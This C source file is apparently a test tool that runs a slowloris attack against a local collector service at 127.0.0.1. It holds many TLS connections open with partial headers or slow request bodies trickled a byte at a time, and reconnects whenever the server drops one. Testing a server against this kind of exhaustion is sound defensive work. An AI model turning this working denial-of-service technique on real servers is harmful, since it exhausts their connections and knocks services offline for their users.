/*
 * slowloris: the attack on the collector's front door, for the tests.
 * It keeps N TLS connections open to 127.0.0.1:PORT from each source
 * address given (any 127.x.y.z is this machine), each sending the start
 * of a request and then one more byte of a header line every few
 * seconds, never finishing it: a connection that sends something now
 * and then is never idle, so an idle timeout alone never closes it.
 * A connection the server closes is opened again at once, as an
 * attacker would (after 100 ms when the server refused it outright, so
 * the loop does not spin).
 *
 * usage: slowloris --port PORT [--every MS] [--status-file F]
 *                  [--body TOKEN] ADDRESS:COUNT...
 *
 *   --every MS        a byte every MS milliseconds (default 5000)
 *   --body TOKEN      send whole headers with this bearer token and a
 *                     Content-Length of 64 KiB, then trickle the body
 *                     (a slow body instead of slow headers)
 *   --status-file F   rewritten after every change:
 *                     "up U opened O closed C refused R": U connections
 *                     open now (handshake done), O opened in all, C
 *                     closed by the server after their handshake, R that
 *                     the server closed before or during it
 *
 * Single-threaded, blocking handshakes (at most 5 s each), then
 * non-blocking sockets and poll(2).  Ends on SIGTERM.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <gnutls/gnutls.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNS 512

struct conn {
	struct in_addr from;
	int fd;
	gnutls_session_t tls;
	bool up;
	int64_t next_ms; /* next byte, or next attempt when down */
	size_t sent;     /* bytes sent */
};

struct opts {
	int port;
	int every_ms;
	const char *status_file;
	const char *token;
};

static volatile sig_atomic_t stop;
static gnutls_certificate_credentials_t creds;
static char prefix[1024];
static size_t prefix_len;
static unsigned long opened, closed, refused;

static void
on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static int64_t
now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static void
write_status(const struct opts *o, const struct conn *c, int n)
{
	FILE *f;
	int up = 0;

	for (int i = 0; i < n; i++) {
		up += c[i].up;
	}
	if (o->status_file == NULL) {
		return;
	}
	f = fopen(o->status_file, "w");
	if (f != NULL) {
		fprintf(f, "up %d opened %lu closed %lu refused %lu\n", up,
		    opened, closed, refused);
		fclose(f);
	}
}

static void
drop(struct conn *c, int64_t retry_ms)
{
	if (c->tls != NULL) {
		gnutls_deinit(c->tls);
		c->tls = NULL;
	}
	if (c->fd >= 0) {
		close(c->fd);
		c->fd = -1;
	}
	c->up = false;
	c->next_ms = retry_ms;
}

static int
connect_from(struct in_addr from, int port)
{
	struct sockaddr_in src = { .sin_family = AF_INET, .sin_addr = from };
	struct sockaddr_in dst = { .sin_family = AF_INET,
		.sin_port = htons((uint16_t)port),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0) {
		return -1;
	}
	if (bind(fd, (struct sockaddr *)&src, sizeof src) != 0 ||
	    connect(fd, (struct sockaddr *)&dst, sizeof dst) != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Opens c: TCP from its address, then the TLS handshake. */
static void
open_conn(const struct opts *o, struct conn *c)
{
	int64_t now = now_ms();
	int rc;

	c->fd = connect_from(c->from, o->port);
	if (c->fd < 0 || gnutls_init(&c->tls, GNUTLS_CLIENT) < 0) {
		refused++;
		drop(c, now + 100);
		return;
	}
	gnutls_set_default_priority(c->tls);
	gnutls_credentials_set(c->tls, GNUTLS_CRD_CERTIFICATE, creds);
	gnutls_transport_set_int(c->tls, c->fd);
	gnutls_handshake_set_timeout(c->tls, 5000);
	do {
		rc = gnutls_handshake(c->tls);
	} while (rc < 0 && gnutls_error_is_fatal(rc) == 0);
	if (rc < 0) {
		refused++;
		drop(c, now_ms() + 100);
		return;
	}
	fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);
	opened++;
	c->up = true;
	c->sent = 0;
	c->next_ms = now_ms();
}

/* Sends the next of c's request: the prefix, then an 'a' each time. */
static void
trickle(const struct opts *o, struct conn *c)
{
	static const char byte = 'a';
	size_t n = c->sent == 0 ? prefix_len : 1; /* the start, then bytes */
	ssize_t rc =
	    gnutls_record_send(c->tls, c->sent == 0 ? prefix : &byte, n);

	if (rc == GNUTLS_E_AGAIN || rc == GNUTLS_E_INTERRUPTED) {
		c->next_ms = now_ms() + 10;
		return;
	}
	if (rc < 0) {
		closed++;
		drop(c, now_ms());
		return;
	}
	c->sent += n;
	c->next_ms = now_ms() + o->every_ms;
}

/* Reads what the server sent on c (its socket is non-blocking once the
 * handshake is done): true when it closed the connection, or answered
 * (either way it is done with this request).  A TLS 1.3 server sends
 * session tickets after the handshake: GnuTLS takes them and has no data
 * to give, which is not an end. */
static bool
server_closed(struct conn *c)
{
	char buf[4096];
	ssize_t n;

	do {
		n = gnutls_record_recv(c->tls, buf, sizeof buf);
	} while (n == GNUTLS_E_INTERRUPTED);
	return n != GNUTLS_E_AGAIN && n != GNUTLS_E_REHANDSHAKE;
}

/* One round: wait for the next byte due or for a server closing. */
static bool
round_once(const struct opts *o, struct conn *c, int n)
{
	struct pollfd fds[MAX_CONNS];
	int64_t now = now_ms(), next = now + 1000;
	bool changed = false;

	for (int i = 0; i < n; i++) {
		fds[i] = (struct pollfd){ .fd = c[i].up ? c[i].fd : -1,
			.events = POLLIN };
		if (c[i].next_ms < next) {
			next = c[i].next_ms;
		}
	}
	poll(fds, (nfds_t)n, next > now ? (int)(next - now) : 0);
	for (int i = 0; i < n && !stop; i++) {
		if (c[i].up &&
		    (fds[i].revents & (POLLIN | POLLHUP | POLLERR)) &&
		    server_closed(&c[i])) {
			closed++;
			drop(&c[i], now_ms());
			changed = true;
		}
		if (!c[i].up && now_ms() >= c[i].next_ms) {
			open_conn(o, &c[i]);
			changed = true;
		} else if (c[i].up && now_ms() >= c[i].next_ms) {
			trickle(o, &c[i]);
			changed |= !c[i].up;
		}
	}
	return changed;
}

/* ADDRESS:COUNT into count connections from ADDRESS. */
static int
add_group(const char *arg, struct conn *c, int n)
{
	char addr[64];
	const char *colon = strrchr(arg, ':');
	int count = colon != NULL ? atoi(colon + 1) : 0;
	struct in_addr from;

	if (colon == NULL || (size_t)(colon - arg) >= sizeof addr ||
	    count <= 0 || n + count > MAX_CONNS) {
		return -1;
	}
	snprintf(addr, sizeof addr, "%.*s", (int)(colon - arg), arg);
	if (inet_pton(AF_INET, addr, &from) != 1) {
		return -1;
	}
	for (int i = 0; i < count; i++) {
		c[n + i] = (struct conn){ .from = from, .fd = -1 };
	}
	return n + count;
}

static void
make_prefix(const struct opts *o)
{
	if (o->token != NULL) {
		prefix_len = (size_t)snprintf(prefix, sizeof prefix,
		    "POST /api/v1/batches HTTP/1.1\r\nHost: 127.0.0.1\r\n"
		    "Authorization: Bearer %s\r\n"
		    "Content-Length: 65536\r\n\r\n",
		    o->token);
	} else {
		prefix_len = (size_t)snprintf(prefix, sizeof prefix,
		    "POST /api/v1/batches HTTP/1.1\r\nHost: 127.0.0.1\r\n"
		    "X-Slow: ");
	}
}

int
main(int argc, char **argv)
{
	static struct conn c[MAX_CONNS];
	struct opts o = { .every_ms = 5000 };
	int n = 0;

	for (int i = 1; i < argc; i++) {
		const char *v = i + 1 < argc ? argv[i + 1] : "";

		if (strcmp(argv[i], "--port") == 0) {
			o.port = atoi(v);
			i++;
		} else if (strcmp(argv[i], "--every") == 0) {
			o.every_ms = atoi(v);
			i++;
		} else if (strcmp(argv[i], "--status-file") == 0) {
			o.status_file = v;
			i++;
		} else if (strcmp(argv[i], "--body") == 0) {
			o.token = v;
			i++;
		} else if ((n = add_group(argv[i], c, n)) < 0) {
			fprintf(
			    stderr, "slowloris: bad argument %s\n", argv[i]);
			return 2;
		}
	}
	if (o.port <= 0 || n == 0 || o.every_ms <= 0) {
		fprintf(stderr,
		    "usage: slowloris --port PORT [--every MS] "
		    "[--status-file F] [--body TOKEN] ADDRESS:COUNT...\n");
		return 2;
	}
	signal(SIGPIPE, SIG_IGN);
	signal(SIGTERM, on_term);
	if (gnutls_global_init() < 0 ||
	    gnutls_certificate_allocate_credentials(&creds) < 0) {
		fprintf(stderr, "slowloris: cannot start GnuTLS\n");
		return 1;
	}
	make_prefix(&o);
	write_status(&o, c, n);
	while (!stop) {
		if (round_once(&o, c, n)) {
			write_status(&o, c, n);
		}
	}
	for (int i = 0; i < n; i++) {
		drop(&c[i], 0);
	}
	gnutls_certificate_free_credentials(creds);
	gnutls_global_deinit();
	return 0;
}
